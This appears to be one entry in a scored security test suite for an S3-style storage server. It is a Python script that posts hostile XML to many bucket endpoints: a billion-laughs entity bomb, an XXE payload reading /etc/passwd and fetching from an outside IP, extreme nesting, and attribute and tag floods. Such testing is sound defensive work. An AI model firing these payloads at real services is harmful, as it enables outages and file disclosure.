# attack: 27
# does: works, and sends XML that unfolds to gigabytes, names files, and is nested a hundred thousand levels deep
# run: finished
# earns: 10
# with: work
# with: http
work()
bomb = b'<!DOCTYPE a [<!ENTITY a "' + b"x" * 1000 + b'">' + b"".join(b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">' % ((98 + n,) + (97 + n,) * 8) for n in range(12)) + b"]>"
file = b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://192.0.2.1/">]>'
for query in ("tagging", "acl", "cors", "lifecycle", "versioning", "website", "logging", "notification", "encryption", "delete", "publicAccessBlock", "ownershipControls", "replication", "accelerate", "object-lock", "requestPayment"):
    for body in (bomb + b"<a>&m;</a>", file + b"<a>&a;&b;</a>", b"<a>" * 100_000, b"<a" + b" b=''" * 1000 + b"/>", b"\xff\xfe<\x00", b"<a><b><c>" + b"<d>x</d>" * 10_000 + b"</c></b></a>"):
        method = "POST" if query == "delete" else "PUT"
        raw(method, f"/{given.bucket}?{query}", body)
    raw("PUT", f"/{given.bucket}/stations.csv?{query}", b"<Tagging>" * 50_000) if query in ("tagging", "acl") else None
